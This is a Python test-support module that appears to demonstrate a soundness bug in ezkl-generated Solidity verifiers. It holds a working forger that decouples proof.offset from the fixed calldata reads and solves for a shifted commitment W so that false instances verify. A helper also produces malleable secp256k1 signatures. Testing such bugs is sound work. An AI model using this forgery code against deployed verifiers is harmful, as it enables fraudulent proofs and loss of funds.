"""The forgery that ezkl's generated verifier lets through: a decoupled proof.offset.

The verifier draws its challenges from the bytes at proof.offset, but computes with the commitments and evaluations at
fixed calldata addresses. So a forger shows it an honest transcript at one place and, knowing the challenges, solves for
one free commitment (W, the batch opening) at the other: with an honest proof's pairing input (lhs, rhs), W' = rhs is
kept and W is moved until the left side is lhs again. The false instance stands; the pairing holds.
"""

from __future__ import annotations

import re
from pathlib import Path

from eth_abi import encode
from eth_utils.crypto import keccak
from web3 import Web3
from web3.contract import Contract

from oracle.chain import solc
from oracle.constants import BN254_SCALAR_FIELD
from tests.support.inference import deploy_artifact
from tests.support.local_chain import LocalChain
from tests.support.tiny_circuit import TinyCircuit, TinyProof

BASE_FIELD = 21888242871839275222246405745257275088696311157297823662689037894645226208583
SECP256K1_ORDER = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141
SELECTOR = keccak(text="verifyProof(bytes,uint256[])")[:4]
FIXED_PROOF = 0x64  # where the generated code reads commitments and evaluations
EC_ADD, EC_MUL = (Web3.to_checksum_address(f"0x{n:040x}") for n in (6, 7))

Point = tuple[int, int]

_PAIRING = "            // Perform pairing\n"
_LEAK = """
    mstore(0x00, mload(PAIRING_LHS_X_MPTR)) mstore(0x20, mload(PAIRING_LHS_Y_MPTR)) mstore(0x40, mload({0}))
    return(0, 0x60)
"""
_W_TERM = re.compile(
    r"mstore\(0x80, calldataload\((0x[0-9a-f]+)\)\)\s+mstore\(0xa0, calldataload\(0x[0-9a-f]+\)\)\s+"
    r"success := ec_mul_tmp\(success, sub\(R, mload\((0x[0-9a-f]+)\)\)\)"
)


class Forger:
    """Forges proofs of one circuit, with nothing but its public verifier source and one honest proof."""

    def __init__(self, chain: LocalChain, circuit: TinyCircuit) -> None:
        self.chain = chain
        source = (circuit.folder / "Verifier.sol").read_text()
        (match,) = _W_TERM.finditer(source)
        self.w_at = int(match[1], 16) - FIXED_PROOF  # of W in the proof
        self.leaking = self._deploy_leaking(circuit, source.replace(_PAIRING, _PAIRING + _LEAK.format(match[2])))

    def forge(self, honest: TinyProof, instances: list[int]) -> bytes:
        """Calldata of verifyProof that the unpatched verifier accepts for `instances`."""
        honest_lhs, _ = self._pairing_input(canonical(honest.zk_proof, list(honest.instances)))
        lhs, scalar = self._pairing_input(decoupled(honest.zk_proof, honest.zk_proof, instances))
        w = self._point(honest.zk_proof, self.w_at)
        # lhs = rest - scalar * W, and it has to be honest_lhs
        shift = self._mul(self._add(lhs, negated(honest_lhs)), pow(scalar, -1, BN254_SCALAR_FIELD))
        moved = self._add(w, shift)
        body = bytearray(honest.zk_proof)
        body[self.w_at : self.w_at + 64] = encode(["uint256", "uint256"], moved)
        return decoupled(bytes(body), honest.zk_proof, instances)

    def _deploy_leaking(self, circuit: TinyCircuit, source: str) -> Contract:
        file = Path(circuit.folder) / "Leaking.sol"
        file.write_text(source)
        return deploy_artifact(self.chain, solc.compile_verifier(circuit.settings, file))

    def _pairing_input(self, calldata: bytes) -> tuple[Point, int]:
        x, y, scalar = words(self.chain.web3.eth.call({"to": self.leaking.address, "data": calldata}))
        return (x, y), scalar

    def _point(self, proof: bytes, at: int) -> Point:
        x, y = words(proof[at : at + 64])
        return x, y

    def _add(self, left: Point, right: Point) -> Point:
        x, y = words(self.chain.web3.eth.call({"to": EC_ADD, "data": encode(["uint256"] * 4, [*left, *right])}))
        return x, y

    def _mul(self, point: Point, scalar: int) -> Point:
        x, y = words(self.chain.web3.eth.call({"to": EC_MUL, "data": encode(["uint256"] * 3, [*point, scalar])}))
        return x, y


def canonical(zk_proof: bytes, instances: list[int]) -> bytes:
    """Calldata as any ABI encoder makes it."""
    return SELECTOR + encode(["bytes", "uint256[]"], [zk_proof, instances])


def decoupled(body: bytes, transcript: bytes, instances: list[int]) -> bytes:
    """Calldata with `body` where the generated code computes from and `transcript` where proof.offset points."""
    array = encode(["uint256"] * (len(instances) + 1), [len(instances), *instances])
    instances_at = 0x60 + len(body)
    transcript_at = instances_at + len(array)
    head = encode(["uint256"] * 3, [transcript_at, instances_at, len(body)])
    return SELECTOR + head + body + array + encode(["uint256"], [len(transcript)]) + transcript


def negated(point: Point) -> Point:
    """The inverse of a point of BN254's first group."""
    return point[0], (BASE_FIELD - point[1]) % BASE_FIELD


def words(data: bytes) -> list[int]:
    """The 32-byte words of `data`."""
    return [int.from_bytes(data[i : i + 32], "big") for i in range(0, len(data), 32)]


def mirrored(signature: bytes) -> bytes:
    """The other signature of the same message by the same key: s' = n - s."""
    s = SECP256K1_ORDER - int.from_bytes(signature[32:64])
    return signature[:32] + s.to_bytes(32) + bytes([55 - signature[64]])
